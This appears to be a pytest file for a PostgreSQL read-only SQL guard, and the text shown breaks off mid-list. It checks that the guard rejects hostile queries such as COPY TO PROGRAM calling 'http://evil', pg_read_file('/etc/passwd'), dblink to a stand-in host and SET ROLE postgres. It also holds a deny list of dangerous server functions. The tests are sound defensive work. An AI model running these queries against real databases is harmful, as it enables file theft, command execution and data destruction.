"""THREATS.md, postgres: the SQL guard lets through one read-only statement and nothing else.

Pure unit tests, no database: each class of attack has a corpus of its own, and the legitimate
analytics SQL that must keep working has one too.
"""

import dataclasses
from typing import Any

import pytest

from bulkhead.errors import InvalidArgumentError
from bulkhead_postgres import guard as guard_internals
from bulkhead_postgres.guard import (
    DENIED_FUNCTIONS,
    MAX_SQL_LENGTH,
    CheckedStatement,
    QueryRejectedError,
    check_explainable,
    check_read_only,
)


def rejection(sql: str, *, allow_explain_analyze: bool = False) -> str:
    """The message `check_read_only` refuses `sql` with; fails the test if it accepts it."""
    with pytest.raises(QueryRejectedError) as caught:
        check_read_only(sql, allow_explain_analyze=allow_explain_analyze)
    message = str(caught.value)
    assert message.startswith("Query rejected: ")
    assert message.endswith(".")
    assert "\n" not in message
    return message


def explain_rejection(sql: str) -> str:
    """The message `check_explainable` refuses `sql` with."""
    with pytest.raises(QueryRejectedError) as caught:
        check_explainable(sql)
    message = str(caught.value)
    assert message.startswith("Query rejected: ")
    return message


# --- multi-statement strings ---------------------------------------------------------------------

MULTI_STATEMENT = [
    "SELECT 1; COMMIT; DROP TABLE t",
    "select 1;select 2",
    "SELECT 1; SELECT 2;",
    "SELECT 1;;SELECT 2",
    "SELECT 1 -- one\n; SELECT 2 /* two */",
    "/* a; b */ SELECT 1; /* c */ SELECT 2",
    "SELECT $$;$$; SELECT 2",
    "SELECT $tag$ ; $tag$; DELETE FROM t",
    "SELECT ';'; DROP TABLE t",
    "SELECT E'\\';'; SELECT 2",
    'SELECT "a;b" FROM t; SELECT 2',
    "SELECT 1;\nCOMMIT;\nSET default_transaction_read_only = off;\nDELETE FROM t",
    "BEGIN; SELECT 1; END",
    "SELECT 1; ROLLBACK",
    "VALUES (1); TABLE t",
    "SHOW work_mem; SET work_mem = '1GB'",
    "EXPLAIN SELECT 1; SELECT 2",
    "SELECT 1; COPY t TO PROGRAM 'curl http://evil'",
]


@pytest.mark.parametrize("sql", MULTI_STATEMENT)
def test_more_than_one_statement_is_rejected_with_one_at_a_time_advice(sql: str) -> None:
    message = rejection(sql)
    assert "only one statement per call is allowed" in message
    assert "one at a time" in message


def test_the_multi_statement_message_counts_the_statements() -> None:
    assert rejection("SELECT 1; COMMIT; DROP TABLE t") == (
        "Query rejected: only one statement per call is allowed and the text holds 3; "
        "send `SELECT ...` statements one at a time."
    )


SEMICOLONS_THAT_ARE_NOT_SEPARATORS = [
    "SELECT ';'",
    "SELECT ';' ;",
    "SELECT $$a;b$$",
    "SELECT $x$ ; $x$",
    "SELECT 'a;b' AS \"c;d\"",
    "SELECT E'\\';'",
    "SELECT 1 /* ; */",
    "SELECT 1 -- ;\n",
    "SELECT 1;",
    "SELECT 1 ;  ;  ",
    "SELECT U&'\\0041;'",
    "SELECT 'it''s; fine'",
]


@pytest.mark.parametrize("sql", SEMICOLONS_THAT_ARE_NOT_SEPARATORS)
def test_semicolons_in_strings_comments_or_at_the_end_leave_one_statement(sql: str) -> None:
    assert check_read_only(sql).kind == "select"


# --- statements that leave the transaction or change state -------------------------------------

UTILITY_STATEMENTS = [
    ("COMMIT", "COMMIT"),
    ("COMMIT AND CHAIN", "COMMIT"),
    ("END", "END"),
    ("ROLLBACK", "ROLLBACK"),
    ("ABORT", "ABORT"),
    ("BEGIN", "BEGIN"),
    ("BEGIN READ WRITE", "BEGIN"),
    ("START TRANSACTION READ WRITE", "START"),
    ("SAVEPOINT s", "SAVEPOINT"),
    ("RELEASE SAVEPOINT s", "RELEASE"),
    ("ROLLBACK TO SAVEPOINT s", "ROLLBACK"),
    ("PREPARE TRANSACTION 'x'", "PREPARE"),
    ("COMMIT PREPARED 'x'", "COMMIT"),
    ("SET TRANSACTION READ WRITE", "SET"),
    ("SET default_transaction_read_only = off", "SET"),
    ("SET SESSION default_transaction_read_only TO false", "SET"),
    ("SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE", "SET"),
    ("SET LOCAL statement_timeout = 0", "SET"),
    ("SET search_path = evil, public", "SET"),
    ("SET ROLE postgres", "SET"),
    ("SET SESSION AUTHORIZATION postgres", "SET"),
    ("SET CONSTRAINTS ALL DEFERRED", "SET"),
    ("RESET ALL", "RESET"),
    ("RESET ROLE", "RESET"),
    ("RESET statement_timeout", "RESET"),
    ("PREPARE p AS DELETE FROM t", "PREPARE"),
    ("PREPARE q AS SELECT 1", "PREPARE"),
    ("EXECUTE p", "EXECUTE"),
    ("DEALLOCATE ALL", "DEALLOCATE"),
    ("DEALLOCATE p", "DEALLOCATE"),
    ("LISTEN ch", "LISTEN"),
    ("UNLISTEN *", "UNLISTEN"),
    ("NOTIFY ch, 'x'", "NOTIFY"),
    ("DECLARE c CURSOR WITH HOLD FOR SELECT 1", "DECLARE"),
    ("DECLARE c SCROLL CURSOR FOR SELECT * FROM t", "DECLARE"),
    ("FETCH ALL FROM c", "FETCH"),
    ("MOVE NEXT IN c", "MOVE"),
    ("CLOSE c", "CLOSE"),
    ("CLOSE ALL", "CLOSE"),
    ("LOCK TABLE t IN ACCESS EXCLUSIVE MODE", "LOCK"),
    ("LOCK t", "LOCK"),
    ("DO $$ BEGIN PERFORM pg_sleep(1); END $$", "DO"),
    ("DO LANGUAGE plpgsql 'BEGIN NULL; END'", "DO"),
    ("CALL p()", "CALL"),
    ("DISCARD ALL", "DISCARD"),
    ("DISCARD PLANS", "DISCARD"),
    ("VACUUM", "VACUUM"),
    ("VACUUM FULL t", "VACUUM"),
    ("ANALYZE", "ANALYZE"),
    ("ANALYZE t", "ANALYZE"),
    ("CHECKPOINT", "CHECKPOINT"),
    ("LOAD 'plpgsql'", "LOAD"),
    ("COPY t TO PROGRAM 'curl http://evil'", "COPY"),
    ("COPY t TO '/tmp/x'", "COPY"),
    ("COPY (SELECT 1) TO STDOUT", "COPY"),
    ("COPY (SELECT pg_read_file('/etc/passwd')) TO STDOUT", "COPY"),
    ("COPY t FROM STDIN", "COPY"),
    ("COPY t FROM PROGRAM 'id'", "COPY"),
    ("COPY t FROM '/etc/passwd'", "COPY"),
    ("CREATE TABLE t (a int)", "CREATE"),
    ("CREATE TEMP TABLE t (a int)", "CREATE"),
    ("CREATE TABLE t AS SELECT 1", "CREATE"),
    ("CREATE MATERIALIZED VIEW m AS SELECT 1", "CREATE"),
    ("CREATE VIEW v AS SELECT 1", "CREATE"),
    ("CREATE OR REPLACE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'", "CREATE"),
    ("CREATE EXTENSION dblink", "CREATE"),
    ("CREATE ROLE r SUPERUSER", "CREATE"),
    ("CREATE INDEX ON t (a)", "CREATE"),
    ("CREATE SCHEMA s", "CREATE"),
    ("CREATE PUBLICATION p FOR ALL TABLES", "CREATE"),
    ("DROP TABLE t", "DROP"),
    ("DROP DATABASE d", "DROP"),
    ("DROP OWNED BY r", "DROP"),
    ("ALTER TABLE t ADD COLUMN b int", "ALTER"),
    ("ALTER ROLE r SUPERUSER", "ALTER"),
    ("ALTER SYSTEM SET fsync = off", "ALTER"),
    ("ALTER DATABASE d SET default_transaction_read_only = off", "ALTER"),
    ("ALTER DEFAULT PRIVILEGES GRANT ALL ON TABLES TO public", "ALTER"),
    ("TRUNCATE t", "TRUNCATE"),
    ("GRANT ALL ON t TO public", "GRANT"),
    ("GRANT r TO s", "GRANT"),
    ("REVOKE SELECT ON t FROM public", "REVOKE"),
    ("REASSIGN OWNED BY a TO b", "REASSIGN"),
    ("COMMENT ON TABLE t IS 'x'", "COMMENT"),
    ("SECURITY LABEL ON TABLE t IS 'x'", "SECURITY"),
    ("REFRESH MATERIALIZED VIEW m", "REFRESH"),
    ("CLUSTER t USING i", "CLUSTER"),
    ("REINDEX TABLE t", "REINDEX"),
    ("IMPORT FOREIGN SCHEMA s FROM SERVER srv INTO public", "IMPORT"),
    ("INSERT INTO t VALUES (1)", "INSERT"),
    ("UPDATE t SET a = 1", "UPDATE"),
    ("DELETE FROM t", "DELETE"),
    ("MERGE INTO t USING s ON t.a = s.a WHEN MATCHED THEN DELETE", "MERGE"),
    ("WITH x AS (SELECT 1) INSERT INTO t SELECT * FROM x", "INSERT"),
    ("WITH x AS (SELECT 1) DELETE FROM t", "DELETE"),
]


@pytest.mark.parametrize(("sql", "label"), UTILITY_STATEMENTS)
def test_statements_other_than_reads_are_rejected_by_name(sql: str, label: str) -> None:
    message = rejection(sql)
    assert message.startswith(f"Query rejected: {label} is not allowed: ")
    assert message.endswith("send one read-only SELECT, VALUES, TABLE, EXPLAIN or SHOW statement instead.")


@pytest.mark.parametrize(
    ("sql", "reason"),
    [
        ("COMMIT", "it would end the read-only transaction or change the state of the session"),
        ("SET default_transaction_read_only = off", "change the state of the session"),
        ("DELETE FROM t", "it modifies data"),
        ("COPY t TO PROGRAM 'x'", "files, programs or the client"),
        ("DO $$ BEGIN END $$", "it runs code"),
        ("VACUUM", "maintenance"),
        ("LOCK t", "it locks tables"),
        ("DROP TABLE t", "it changes the database schema"),
        ("CREATE TABLE t AS SELECT 1", "it creates a table or materialized view"),
    ],
)
def test_a_rejected_statement_says_why(sql: str, reason: str) -> None:
    assert reason in rejection(sql)


# --- writes in disguise --------------------------------------------------------------------------

DATA_MODIFYING_CTES = [
    ("WITH x AS (DELETE FROM t RETURNING *) SELECT * FROM x", "DELETE"),
    ("WITH x AS (INSERT INTO t VALUES (1) RETURNING *) SELECT 1", "INSERT"),
    ("WITH x AS (UPDATE t SET a = a + 1 RETURNING a) SELECT count(*) FROM x", "UPDATE"),
    (
        "WITH x AS (MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE RETURNING t.*) "
        "SELECT * FROM x",
        "MERGE",
    ),
    ("WITH a AS (SELECT 1), b AS (DELETE FROM t) SELECT * FROM a", "DELETE"),
    (
        "WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE n < 3), "
        "d AS (DELETE FROM t) SELECT * FROM r",
        "DELETE",
    ),
    (
        "WITH outer_cte AS (SELECT * FROM (WITH inner_cte AS (DELETE FROM t RETURNING *) "
        "SELECT * FROM inner_cte) s) SELECT * FROM outer_cte",
        "DELETE",
    ),
    ("SELECT * FROM (WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d) s", "DELETE"),
    ("SELECT (WITH d AS (UPDATE t SET a = 1 RETURNING a) SELECT a FROM d LIMIT 1)", "UPDATE"),
    (
        "SELECT 1 WHERE EXISTS (WITH i AS (INSERT INTO t DEFAULT VALUES RETURNING 1) SELECT * FROM i)",
        "INSERT",
    ),
    ("EXPLAIN WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d", "DELETE"),
    ("(WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d) UNION SELECT 1", "DELETE"),
    ("SELECT 1 UNION ALL (WITH d AS (DELETE FROM t RETURNING *) SELECT 1 FROM d)", "DELETE"),
    ("SELECT * FROM t, LATERAL (WITH d AS (DELETE FROM s RETURNING *) SELECT * FROM d) l", "DELETE"),
]


@pytest.mark.parametrize(("sql", "verb"), DATA_MODIFYING_CTES)
def test_data_modifying_ctes_are_rejected_wherever_they_nest(sql: str, verb: str) -> None:
    assert (
        rejection(sql)
        == f"Query rejected: {verb} inside a WITH clause modifies data; this server only reads."
    )


def test_a_data_modifying_cte_is_rejected_even_when_explain_analyze_is_allowed() -> None:
    message = rejection(
        "EXPLAIN ANALYZE WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d", allow_explain_analyze=True
    )
    assert "DELETE inside a WITH clause" in message


SELECT_INTO = [
    "SELECT 1 INTO t",
    "SELECT * INTO TEMP t FROM s",
    "SELECT * INTO UNLOGGED t FROM s",
    "SELECT a INTO TABLE t FROM s",
    "WITH x AS (SELECT 1) SELECT * INTO t FROM x",
    "SELECT 1 INTO t UNION SELECT 2",
    "(SELECT 1 INTO t)",
    "SELECT 1 UNION (SELECT 1 INTO t)",
    "EXPLAIN SELECT 1 INTO t",
]


@pytest.mark.parametrize("sql", SELECT_INTO)
def test_select_into_is_rejected_because_it_creates_a_table(sql: str) -> None:
    assert rejection(sql) == "Query rejected: SELECT ... INTO creates a table; use a plain SELECT."


def test_explain_analyze_of_select_into_is_rejected_even_when_analyze_is_allowed() -> None:
    assert "SELECT ... INTO" in rejection("EXPLAIN ANALYZE SELECT 1 INTO t", allow_explain_analyze=True)


LOCKING = [
    ("SELECT * FROM t FOR UPDATE", "FOR UPDATE"),
    ("SELECT * FROM t FOR NO KEY UPDATE", "FOR NO KEY UPDATE"),
    ("SELECT * FROM t FOR SHARE", "FOR SHARE"),
    ("SELECT * FROM t FOR KEY SHARE", "FOR KEY SHARE"),
    ("SELECT * FROM t FOR UPDATE OF t SKIP LOCKED", "FOR UPDATE"),
    ("SELECT * FROM t FOR UPDATE NOWAIT", "FOR UPDATE"),
    ("TABLE t FOR UPDATE", "FOR UPDATE"),
    ("SELECT * FROM (SELECT * FROM t FOR UPDATE) s", "FOR UPDATE"),
    ("WITH x AS (SELECT * FROM t FOR SHARE) SELECT * FROM x", "FOR SHARE"),
    ("SELECT (SELECT a FROM t LIMIT 1 FOR UPDATE)", "FOR UPDATE"),
    ("SELECT * FROM t WHERE a IN (SELECT a FROM s FOR KEY SHARE)", "FOR KEY SHARE"),
    ("(SELECT 1 FROM t FOR UPDATE) UNION SELECT 2", "FOR UPDATE"),
    ("SELECT 1 UNION (SELECT 1 FROM t FOR NO KEY UPDATE)", "FOR NO KEY UPDATE"),
    ("SELECT * FROM t, LATERAL (SELECT * FROM s WHERE s.a = t.a FOR UPDATE) l", "FOR UPDATE"),
    ("EXPLAIN SELECT * FROM t FOR UPDATE", "FOR UPDATE"),
]


@pytest.mark.parametrize(("sql", "lock"), LOCKING)
def test_row_locking_clauses_are_rejected_in_every_subquery(sql: str, lock: str) -> None:
    assert rejection(sql) == (
        f"Query rejected: SELECT ... {lock} locks rows; remove the locking clause, this server only reads."
    )


EXPLAIN_ANALYZE = [
    "EXPLAIN ANALYZE SELECT 1",
    "EXPLAIN ANALYSE SELECT 1",
    "explain analyze verbose select 1",
    "EXPLAIN (ANALYZE) SELECT 1",
    "EXPLAIN (ANALYZE true) SELECT 1",
    "EXPLAIN (ANALYZE TRUE, FORMAT JSON) SELECT 1",
    "EXPLAIN (analyze on) SELECT 1",
    "EXPLAIN (ANALYZE 1) SELECT 1",
    "EXPLAIN (FORMAT JSON, ANALYZE) SELECT 1",
    "EXPLAIN (ANALYZE false, ANALYZE true) SELECT 1",
    "EXPLAIN (ANALYZE true, ANALYZE false) SELECT 1",
    "EXPLAIN (ANALYZE 'yes') SELECT 1",
    "EXPLAIN (ANALYZE 2) SELECT 1",
    'EXPLAIN ("analyze") SELECT 1',
    'EXPLAIN ("ANALYZE") SELECT 1',
    "EXPLAIN (ANALYZE, BUFFERS, TIMING, SUMMARY) SELECT * FROM t",
    "EXPLAIN (ANALYSE) WITH x AS (SELECT 1) SELECT * FROM x",
]


@pytest.mark.parametrize("sql", EXPLAIN_ANALYZE)
def test_explain_analyze_in_every_spelling_is_rejected_unless_allowed(sql: str) -> None:
    assert rejection(sql) == (
        "Query rejected: EXPLAIN ANALYZE runs the statement and is not enabled on this server; "
        "use EXPLAIN without ANALYZE to see the plan."
    )


@pytest.mark.parametrize("sql", EXPLAIN_ANALYZE)
def test_explain_analyze_is_accepted_and_flagged_when_allowed(sql: str) -> None:
    checked = check_read_only(sql, allow_explain_analyze=True)
    assert checked.kind == "explain"
    assert checked.explain_analyze is True


@pytest.mark.parametrize(
    "sql",
    [
        "EXPLAIN (ANALYZE false) SELECT 1",
        "EXPLAIN (ANALYZE FALSE) SELECT 1",
        "EXPLAIN (analyze off) SELECT 1",
        "EXPLAIN (ANALYZE OFF, FORMAT JSON) SELECT 1",
        "EXPLAIN (ANALYZE 0) SELECT 1",
        "EXPLAIN (ANALYSE false) SELECT 1",
    ],
)
def test_explain_with_analyze_turned_off_is_a_plain_explain(sql: str) -> None:
    assert check_read_only(sql) == CheckedStatement(sql, "explain", explain_analyze=False)


EXPLAIN_OF_WRITES = [
    ("EXPLAIN DELETE FROM t", "DELETE"),
    ("EXPLAIN INSERT INTO t VALUES (1)", "INSERT"),
    ("EXPLAIN UPDATE t SET a = 1", "UPDATE"),
    ("EXPLAIN MERGE INTO t USING s ON true WHEN MATCHED THEN DELETE", "MERGE"),
    ("EXPLAIN ANALYZE DELETE FROM t", "DELETE"),
    ("EXPLAIN (ANALYZE, FORMAT JSON) UPDATE t SET a = 1", "UPDATE"),
    ("EXPLAIN ANALYZE WITH x AS (SELECT 1) INSERT INTO t SELECT * FROM x", "INSERT"),
    ("EXPLAIN CREATE TABLE t AS SELECT 1", "CREATE TABLE AS"),
    ("EXPLAIN ANALYZE CREATE MATERIALIZED VIEW m AS SELECT 1", "CREATE TABLE AS"),
    ("EXPLAIN DECLARE c CURSOR FOR SELECT 1", "DECLARE CURSOR"),
    ("EXPLAIN EXECUTE p", "EXECUTE"),
    ("EXPLAIN REFRESH MATERIALIZED VIEW m", "REFRESH MATERIALIZED VIEW"),
]


@pytest.mark.parametrize("allow_explain_analyze", [False, True])
@pytest.mark.parametrize(("sql", "label"), EXPLAIN_OF_WRITES)
def test_explain_of_anything_but_a_select_is_rejected(
    sql: str, label: str, allow_explain_analyze: bool
) -> None:
    assert rejection(sql, allow_explain_analyze=allow_explain_analyze) == (
        f"Query rejected: EXPLAIN of {label} is not allowed: this server only reads; "
        "explain a SELECT instead."
    )


@pytest.mark.parametrize("sql", ["EXPLAIN SHOW work_mem", "EXPLAIN EXPLAIN SELECT 1", "EXPLAIN SET x = 1"])
def test_explain_of_show_or_of_explain_is_rejected(sql: str) -> None:
    assert "is not valid SQL" in rejection(sql)


# --- denied functions, wherever they appear ------------------------------------------------------

DENIED_CALLS = [
    ("SELECT pg_sleep(1)", "pg_sleep"),
    ("SELECT * FROM pg_sleep(1)", "pg_sleep"),
    ("SELECT * FROM lo_import('/etc/passwd')", "lo_import"),
    ("SELECT * FROM pg_ls_dir('.') AS f(name)", "pg_ls_dir"),
    ("SELECT * FROM ROWS FROM (generate_series(1, 2), pg_sleep(1))", "pg_sleep"),
    ("SELECT * FROM dblink('host=evil', 'SELECT 1') AS t(a int)", "dblink"),
    ("SELECT * FROM t, pg_read_file('/etc/passwd') f", "pg_read_file"),
    ("SELECT * FROM t WHERE pg_sleep(1) IS NOT NULL", "pg_sleep"),
    ("SELECT 1 WHERE pg_try_advisory_lock(1)", "pg_try_advisory_lock"),
    ("SELECT a FROM t GROUP BY a HAVING count(*) > 0 AND pg_sleep(1) IS NULL", "pg_sleep"),
    ("SELECT * FROM t ORDER BY pg_sleep(0.1)", "pg_sleep"),
    ("SELECT count(*) FROM t GROUP BY pg_sleep(1)", "pg_sleep"),
    ("SELECT count(*) FROM t GROUP BY GROUPING SETS ((a), (nextval('s')))", "nextval"),
    ("SELECT a FROM t GROUP BY ROLLUP (a, nextval('s'))", "nextval"),
    ("SELECT * FROM a JOIN b ON a.id = b.id AND pg_notify('c', 'x') IS NULL", "pg_notify"),
    ("SELECT * FROM a LEFT JOIN b USING (id) WHERE pg_cancel_backend(1)", "pg_cancel_backend"),
    ("SELECT * FROM t, LATERAL (SELECT pg_read_file(t.path)) f", "pg_read_file"),
    ("SELECT * FROM t CROSS JOIN LATERAL pg_ls_dir(t.dir) d", "pg_ls_dir"),
    ("SELECT CASE WHEN a > 0 THEN pg_sleep(1) ELSE NULL END FROM t", "pg_sleep"),
    ("SELECT CASE pg_terminate_backend(1) WHEN true THEN 1 END", "pg_terminate_backend"),
    ("SELECT CASE WHEN true THEN 1 ELSE setval('s', 1) END", "setval"),
    ("SELECT COALESCE(NULL, pg_reload_conf())", "pg_reload_conf"),
    ("SELECT GREATEST(1, nextval('s'))", "nextval"),
    ("SELECT NULLIF(pg_current_xact_id()::text, '')", "pg_current_xact_id"),
    ("SELECT (SELECT pg_sleep(1))", "pg_sleep"),
    ("SELECT * FROM t WHERE EXISTS (SELECT 1 FROM s WHERE pg_sleep(1) IS NULL)", "pg_sleep"),
    ("SELECT * FROM t WHERE a IN (SELECT setval('s', 1))", "setval"),
    ("SELECT a = ANY (SELECT txid_current()) FROM t", "txid_current"),
    ("SELECT (SELECT (SELECT (SELECT lo_unlink(1))))", "lo_unlink"),
    ("WITH x AS (SELECT pg_cancel_backend(123)) SELECT * FROM x", "pg_cancel_backend"),
    (
        "WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE pg_sleep(0.01) IS NULL) "
        "SELECT * FROM r",
        "pg_sleep",
    ),
    ("EXPLAIN SELECT pg_sleep(1)", "pg_sleep"),
    ("EXPLAIN (FORMAT JSON) SELECT * FROM pg_ls_dir('.')", "pg_ls_dir"),
    ("VALUES (1, pg_sleep(1))", "pg_sleep"),
    ("VALUES (1), (2), (lo_create(0))", "lo_create"),
    ("SELECT * FROM (VALUES (lo_unlink(1))) v", "lo_unlink"),
    ("SELECT pg_catalog.pg_sleep(1)", "pg_sleep"),
    ("SELECT public.pg_sleep(1)", "pg_sleep"),
    ("SELECT mydb.pg_catalog.pg_sleep(1)", "pg_sleep"),
    ("SELECT PG_SLEEP(1)", "pg_sleep"),
    ("SELECT Pg_Sleep(1)", "pg_sleep"),
    ("select PG_CATALOG.PG_READ_FILE('x')", "pg_read_file"),
    ('SELECT "pg_sleep"(1)', "pg_sleep"),
    ('SELECT "pg_catalog"."pg_sleep"(1)', "pg_sleep"),
    ('SELECT "PG_SLEEP"(1)', "pg_sleep"),
    ('SELECT U&"pg\\005fsleep"(1)', "pg_sleep"),
    ("SELECT set_config(setting_name => 'x', new_value => 'y', is_local => false)", "set_config"),
    ("SELECT set_config('default_transaction_read_only', 'off', false)", "set_config"),
    ("SELECT dblink_exec(VARIADIC ARRAY['conn', 'DROP TABLE t'])", "dblink_exec"),
    ("SELECT concat(VARIADIC ARRAY[pg_read_file('x')])", "pg_read_file"),
    ("SELECT sum(nextval('s')) OVER (PARTITION BY a) FROM t", "nextval"),
    ("SELECT row_number() OVER (ORDER BY pg_sleep(0.1)) FROM t", "pg_sleep"),
    ("SELECT sum(a) OVER w FROM t WINDOW w AS (ORDER BY nextval('s'))", "nextval"),
    ("SELECT count(*) FILTER (WHERE pg_sleep(1) IS NULL) FROM t", "pg_sleep"),
    ("SELECT string_agg(a, ',' ORDER BY nextval('s')) FROM t", "nextval"),
    ("SELECT percentile_cont(0.5) WITHIN GROUP (ORDER BY nextval('s')) FROM t", "nextval"),
    ("SELECT pg_sleep(1)::text", "pg_sleep"),
    ("SELECT CAST(pg_read_file('x') AS int)", "pg_read_file"),
    ("SELECT (lo_get(1))::text", "lo_get"),
    ("SELECT ARRAY[pg_sleep(1)]", "pg_sleep"),
    ("SELECT ROW(1, pg_sleep(1))", "pg_sleep"),
    ("SELECT (1, setval('s', 5))", "setval"),
    ("SELECT length(pg_read_file('/etc/passwd'))", "pg_read_file"),
    ("SELECT upper(lower(pg_read_binary_file('x')::text))", "pg_read_binary_file"),
    ("SELECT 1 + nextval('s')", "nextval"),
    ("SELECT 'a' || pg_read_file('x')", "pg_read_file"),
    ("SELECT 1 IS DISTINCT FROM pg_sleep(1)", "pg_sleep"),
    ("SELECT pg_read_file('x') COLLATE \"C\"", "pg_read_file"),
    ("SELECT now() AT TIME ZONE pg_read_file('tz')", "pg_read_file"),
    ("SELECT (ARRAY[1, 2])[nextval('s')]", "nextval"),
    ("SELECT * FROM t LIMIT nextval('s')", "nextval"),
    ("SELECT * FROM t OFFSET pg_sleep(1)::int", "pg_sleep"),
    ("SELECT DISTINCT ON (nextval('s')) a FROM t", "nextval"),
    ("SELECT * FROM t WHERE a IN (1, nextval('s'))", "nextval"),
    ("SELECT 1 WHERE 1 BETWEEN 0 AND nextval('s')", "nextval"),
    ("SELECT * FROM t TABLESAMPLE SYSTEM (nextval('s'))", "nextval"),
    (
        "SELECT * FROM XMLTABLE('/r' PASSING query_to_xml('DELETE FROM t', true, false, '') COLUMNS a int)",
        "query_to_xml",
    ),
    ("SELECT * FROM JSON_TABLE(pg_read_file('x')::jsonb, '$' COLUMNS (a int))", "pg_read_file"),
    ("SELECT 1 UNION SELECT pg_sleep(1)", "pg_sleep"),
    ("SELECT pg_sleep(1) UNION SELECT 1", "pg_sleep"),
    ("SELECT 1 INTERSECT SELECT 2 EXCEPT SELECT nextval('s')", "nextval"),
    ("SELECT 1 FROM t WHERE a = 1 OR a = 2 OR pg_sleep(1) IS NULL", "pg_sleep"),
    ("SELECT jsonb_build_object('k', pg_read_file('x'))", "pg_read_file"),
    ("SELECT EXISTS (SELECT dblink_connect('c', 'host=evil'))", "dblink_connect"),
    ("TABLE t UNION ALL SELECT pg_sleep(1)", "pg_sleep"),
    ("SELECT * FROM t WHERE a > ALL (VALUES (nextval('s')))", "nextval"),
]


@pytest.mark.parametrize(("sql", "name"), DENIED_CALLS)
def test_denied_functions_are_rejected_wherever_they_appear(sql: str, name: str) -> None:
    assert rejection(sql).startswith(f"Query rejected: function {name} is not allowed: it ")


@pytest.mark.parametrize(
    ("sql", "name"), [case for case in DENIED_CALLS if not case[0].startswith("EXPLAIN")]
)
def test_denied_functions_are_rejected_under_explain_analyze_when_it_is_allowed(sql: str, name: str) -> None:
    message = rejection(f"EXPLAIN ANALYZE {sql}", allow_explain_analyze=True)
    assert f"function {name} is not allowed" in message


@pytest.mark.parametrize("name", sorted(DENIED_FUNCTIONS))
def test_every_denied_function_is_rejected_in_a_simple_call(name: str) -> None:
    assert rejection(f"SELECT {name}()").startswith(f"Query rejected: function {name} is not allowed: it ")


@pytest.mark.parametrize("name", sorted(DENIED_FUNCTIONS))
def test_every_denied_function_is_rejected_schema_qualified_and_upper_case(name: str) -> None:
    message = rejection(f"SELECT * FROM PG_CATALOG.{name.upper()}(1, 'x') AS f")
    assert f"function {name} is not allowed" in message


FAMILIES = [
    ("pg_read_file", "it reads files on the database server"),
    ("pg_read_binary_file", "it reads files on the database server"),
    ("pg_stat_file", "it reads files on the database server"),
    ("pg_current_logfile", "it reads files on the database server"),
    ("pg_ls_dir", "it lists directories on the database server"),
    ("pg_ls_waldir", "it lists directories on the database server"),
    ("pg_ls_logicalsnapdir", "it lists directories on the database server"),
    ("pg_ls_summariesdir", "it lists directories on the database server"),
    ("pg_file_write", "it writes, renames or deletes files on the database server"),
    ("pg_file_unlink", "it writes, renames or deletes files on the database server"),
    ("pg_hba_file_rules", "it reads configuration files on the database server"),
    ("lo_import", "it copies files between the database server and large objects"),
    ("lo_export", "it copies files between the database server and large objects"),
    ("lo_open", "large objects"),
    ("lo_from_bytea", "large objects"),
    ("lowrite", "large objects"),
    ("loread", "large objects"),
    ("pg_cancel_backend", "it signals or controls other server processes"),
    ("pg_terminate_backend", "it signals or controls other server processes"),
    ("pg_reload_conf", "it signals or controls other server processes"),
    ("pg_rotate_logfile", "it signals or controls other server processes"),
    ("pg_log_backend_memory_contexts", "it signals or controls other server processes"),
    ("pg_promote", "it signals or controls other server processes"),
    ("set_config", "it changes settings"),
    ("pg_sleep", "it holds a connection without doing work"),
    ("pg_sleep_for", "it holds a connection without doing work"),
    ("pg_sleep_until", "it holds a connection without doing work"),
    ("pg_advisory_lock", "advisory locks"),
    ("pg_advisory_xact_lock_shared", "advisory locks"),
    ("pg_advisory_unlock_all", "advisory locks"),
    ("pg_try_advisory_lock", "advisory locks"),
    ("pg_notify", "it sends notifications to other sessions"),
    ("pg_switch_wal", "write-ahead log"),
    ("pg_create_restore_point", "write-ahead log"),
    ("pg_logical_emit_message", "write-ahead log"),
    ("pg_backup_start", "backup and recovery"),
    ("pg_wal_replay_pause", "backup and recovery"),
    ("pg_create_logical_replication_slot", "replication slots"),
    ("pg_create_physical_replication_slot", "replication slots"),
    ("pg_drop_replication_slot", "replication slots"),
    ("pg_copy_logical_replication_slot", "replication slots"),
    ("pg_replication_slot_advance", "replication slots"),
    ("pg_logical_slot_get_changes", "replication slots"),
    ("pg_replication_origin_create", "origins"),
    ("nextval", "it changes a sequence"),
    ("setval", "it changes a sequence"),
    ("pg_stat_reset", "statistics"),
    ("pg_stat_reset_shared", "statistics"),
    ("pg_stat_statements_reset", "statistics"),
    ("pg_restore_relation_stats", "statistics"),
    ("dblink", "it opens or manages connections to other databases"),
    ("dblink_exec", "it opens or manages connections to other databases"),
    ("dblink_connect_u", "it opens or manages connections to other databases"),
    ("postgres_fdw_disconnect_all", "it opens or manages connections to other databases"),
    ("query_to_xml", "it runs SQL given as a string"),
    ("query_to_xmlschema", "it runs SQL given as a string"),
    ("query_to_xml_and_xmlschema", "it runs SQL given as a string"),
    ("ts_stat", "it runs SQL given as a string"),
    ("ts_rewrite", "it runs SQL given as a string"),
    ("crosstab", "it runs SQL given as a string"),
    ("cursor_to_xml", "it runs queries that this guard cannot see"),
    ("table_to_xml", "it runs queries that this guard cannot see"),
    ("schema_to_xml", "it runs queries that this guard cannot see"),
    ("database_to_xml_and_xmlschema", "it runs queries that this guard cannot see"),
    ("txid_current", "it assigns a transaction ID, which is a write"),
    ("pg_current_xact_id", "it assigns a transaction ID, which is a write"),
    ("pg_export_snapshot", "snapshot file"),
    ("brin_summarize_range", "indexes or table storage"),
    ("heap_force_kill", "indexes or table storage"),
    ("pg_import_system_collations", "system catalog"),
    ("pg_prewarm", "buffer cache"),
]


@pytest.mark.parametrize(("name", "reason"), FAMILIES)
def test_each_function_family_gives_its_own_reason(name: str, reason: str) -> None:
    assert reason in rejection(f"SELECT {name}(1)")


@pytest.mark.parametrize(
    ("sql", "expected"),
    [
        (
            "SELECT pg_read_file('/etc/passwd')",
            "Query rejected: function pg_read_file is not allowed: it reads files on the database server.",
        ),
        (
            "SELECT pg_sleep(10)",
            "Query rejected: function pg_sleep is not allowed: it holds a connection without doing work.",
